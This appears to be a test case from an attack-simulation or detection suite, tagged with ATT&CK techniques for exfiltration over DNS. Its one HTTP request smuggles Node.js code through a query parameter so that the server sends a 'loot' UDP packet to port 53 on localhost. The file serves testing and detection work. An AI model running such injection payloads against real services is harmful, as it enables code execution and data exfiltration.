# title: data leaves as questions for names, by the service itself
# attack: T1071.004 T1048.003
# workload: node
# through: http
# shows: connect udp/53 to 127.0.0.1 by node
GET http://127.0.0.1:3000/total?of=(require(%27dgram%27).createSocket(%27udp4%27).send(%27loot%27%2C53%2C%27127.0.0.1%27)%2C1)
